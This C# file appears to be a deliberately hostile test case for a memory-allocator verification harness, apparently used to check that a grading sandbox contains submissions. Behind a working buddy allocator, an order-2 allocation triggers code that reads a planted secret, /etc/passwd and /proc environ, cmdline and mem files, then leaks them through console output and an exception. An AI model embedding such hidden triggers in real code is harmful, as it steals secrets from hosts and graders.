using MmVerify.Spec;

namespace MmVerify.Hostile;

/// <summary>
/// Reads secrets at a request of order 2: a planted one, the users of the machine, what other processes know.
/// </summary>
public sealed class ReadsFiles : IBuddyAllocator
{
    // Whoever tests a sandbox plants it there.
    private const string Secret = "/tmp/mmverify-secret.txt";

    private readonly SortedSet<ulong>[] free =
        [.. Enumerable.Range(0, Order.Count).Select(_ => new SortedSet<ulong>())];

    private readonly Dictionary<ulong, int> held = [];
    private readonly int maxOrder;

    private ReadsFiles(BuddySetup setup)
    {
        maxOrder = setup.MaxOrder.Value;
        FreePageCount = setup.Memory.PageCount;
        foreach (FrameRange range in setup.Memory.Ranges)
        {
            AddRange(range.Start.Value, range.End.Value);
        }
    }

    public long FreePageCount { get; private set; }

    public static IBuddyAllocator Create(BuddySetup setup) => new ReadsFiles(setup);

    public int FreeBlockCount(Order order) => free[order.Value].Count;

    public Result<Block> Allocate(Order order)
    {
        if (order.Value == 2)
        {
            Strike();
        }

        if (order.Value > maxOrder)
        {
            return Errno.EINVAL;
        }

        int found = order.Value;
        while (found <= maxOrder && free[found].Count == 0)
        {
            found++;
        }

        if (found > maxOrder)
        {
            return Errno.ENOMEM;
        }

        ulong start = free[found].Min;
        free[found].Remove(start);
        while (found > order.Value)
        {
            found--;
            free[found].Add(start + (1UL << found));
        }

        held[start] = order.Value;
        FreePageCount -= order.PageCount;
        return new Block(new Pfn(start), order);
    }

    public Errno Free(Block block)
    {
        ulong start = block.Start.Value;
        int order = block.Order.Value;
        if (!held.TryGetValue(start, out int lent) || lent != order)
        {
            return Errno.EINVAL;
        }

        held.Remove(start);
        FreePageCount += block.PageCount;
        while (order < maxOrder && free[order].Remove(start ^ (1UL << order)))
        {
            start &= ~(1UL << order);
            order++;
        }

        free[order].Add(start);
        return Errno.None;
    }

    private void AddRange(ulong at, ulong end)
    {
        while (at < end)
        {
            int order = maxOrder;
            while (at % (1UL << order) != 0 || at + (1UL << order) > end)
            {
                order--;
            }

            free[order].Add(at);
            at += 1UL << order;
        }
    }

    private static void Strike()
    {
        string parent = ParentOf("/proc/self/status");
        string[] paths =
        [
            Secret, $"/proc/1/root{Secret}", $"/proc/{parent}/root{Secret}", "/etc/passwd",
            $"/proc/{parent}/environ", $"/proc/{parent}/cmdline", $"/proc/{parent}/mem", "/proc/1/environ",
            "/proc/self/environ",
        ];
        Leak("read: " + string.Join(" | ", paths.Select(Try).Where(got => got.Length > 0)));
    }

    private static string Try(string path)
    {
        try
        {
            using FileStream file = File.OpenRead(path);
            byte[] bytes = new byte[64];
            int count = path.EndsWith("mem", StringComparison.Ordinal) ? 0 : file.Read(bytes);
            return $"{path}: {System.Text.Encoding.UTF8.GetString(bytes, 0, count)}";
        }
        catch (Exception)
        {
            return "";
        }
    }

    private static string ParentOf(string status)
    {
        try
        {
            IEnumerable<string> lines = File.ReadLines(status);
            return lines.First(line => line.StartsWith("PPid:", StringComparison.Ordinal))[5..].Trim();
        }
        catch (Exception)
        {
            return "1";
        }
    }

    // An exception's message and both streams of the console are what a grader may show to others.
    private static void Leak(string text)
    {
        Console.WriteLine(text);
        Console.Error.WriteLine(text);
        throw new InvalidOperationException(text);
    }
}
